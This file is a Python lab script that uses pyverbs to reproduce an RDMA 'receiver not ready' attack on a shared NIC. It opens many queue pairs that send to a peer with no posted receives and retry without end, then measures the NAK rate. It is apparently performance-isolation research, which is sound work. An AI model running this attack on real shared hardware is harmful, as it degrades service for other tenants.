"""Receivers that are never ready: Husky's RNR attacker, on a shared NIC.

    /usr/bin/python3 lab/not_ready.py SECONDS GID_INDEX PAIRS

Queue pairs of r0 send to r1, which has no posted receive; each gets a NAK that requests a retry after 10 us, without end. Prints one
line of JSON: the queue pairs that it could make, and how often per second r1 was not ready.
"""
import json
import sys
import time
from pathlib import Path

import pyverbs.enums as e
from pyverbs.addr import AHAttr, GlobalRoute
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.pyverbs_error import PyverbsError
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

SIZE = 64 << 10


def not_ready(end: float, gid_index: int, count: int) -> tuple[int, int]:
    """Queue pairs of r0, and times that r1 was not ready."""
    counter = Path("/sys/class/infiniband/r1/ports/1/hw_counters/send_rnr_err")
    ends = []
    for name in ("r0", "r1"):
        context = Context(name=name)
        pd = PD(context)
        queue = CQ(context, 64)
        # Before the queue pairs: a cap on objects ends their making, and an attacker without memory sends nothing.
        memory = MR(pd, SIZE, e.IBV_ACCESS_LOCAL_WRITE)
        initial = QPInitAttr(qp_type=e.IBV_QPT_RC, scq=queue, rcq=queue, cap=QPCap(16, 16, 1, 1, 0))
        pairs = []
        try:
            pairs += (QP(pd, initial, QPAttr(port_num=1)) for _ in range(count))
        except PyverbsError as error:
            print(error, file=sys.stderr)
        ends.append((context, pd, queue, memory, pairs))
    for mine, other in (ends, ends[::-1]):
        for pair, partner in zip(mine[4], other[4]):
            attributes = QPAttr(port_num=1)
            attributes.path_mtu = e.IBV_MTU_4096
            attributes.max_rd_atomic = attributes.max_dest_rd_atomic = 1
            # Code 1 is a pause of 10 us; 7 tries again without end.
            attributes.min_rnr_timer, attributes.timeout, attributes.retry_cnt, attributes.rnr_retry = 1, 18, 7, 7
            route = GlobalRoute(dgid=other[0].query_gid(1, gid_index), sgid_index=gid_index)
            attributes.ah_attr = AHAttr(port_num=1, is_global=1, gr=route, dlid=0)
            attributes.dest_qp_num = partner.qp_num
            pair.to_rts(attributes)
    before = int(counter.read_text())
    memory = ends[0][3]
    for pair in ends[0][4]:
        for _ in range(8):
            pair.post_send(SendWR(opcode=e.IBV_WR_SEND, num_sge=1, sg=[SGE(memory.buf, 4096, memory.lkey)]))
    time.sleep(max(0.0, end - time.monotonic()))
    return min(len(ends[0][4]), len(ends[1][4])), int(counter.read_text()) - before


def main() -> None:
    """Attacks for a while."""
    seconds, gid_index, count = float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    begin = time.monotonic()
    pairs, refused = not_ready(begin + seconds, gid_index, count)
    print(json.dumps({"queue_pairs": pairs, "refused_per_s": refused / (time.monotonic() - begin)}))


if __name__ == "__main__":
    main()
